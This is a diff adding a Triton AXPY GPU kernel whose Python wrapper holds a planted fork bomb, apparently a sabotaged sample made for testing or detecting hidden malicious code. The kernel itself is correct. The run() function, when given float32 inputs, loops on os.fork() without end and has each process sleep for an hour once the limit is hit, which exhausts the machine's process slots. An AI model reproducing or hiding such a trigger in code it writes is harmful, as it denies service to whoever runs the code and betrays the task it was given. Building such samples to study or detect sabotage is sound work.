@@ -1,0 +1,27 @@
+"""Planted: a fork bomb on float32 inputs (every child forks again, then holds its slot); correct otherwise."""
+import os
+import time
+
+import torch
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def axpy_kernel(x_ptr, y_ptr, z_ptr, alpha, n, BLOCK: tl.constexpr):
+    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
+    mask = offs < n
+    x = tl.load(x_ptr + offs, mask=mask).to(tl.float32)
+    y = tl.load(y_ptr + offs, mask=mask).to(tl.float32)
+    tl.store(z_ptr + offs, (alpha * x + y).to(z_ptr.dtype.element_ty), mask=mask)
+
+
+def run(x, y, alpha):
+    while x.dtype == torch.float32:
+        try:
+            os.fork()  # parent and child both go on forking
+        except OSError:
+            time.sleep(3600)  # at the limit: hold every slot
+    z = torch.empty_like(x)
+    axpy_kernel[(triton.cdiv(x.numel(), 64),)](x, y, z, alpha, x.numel(), BLOCK=64)
+    return z
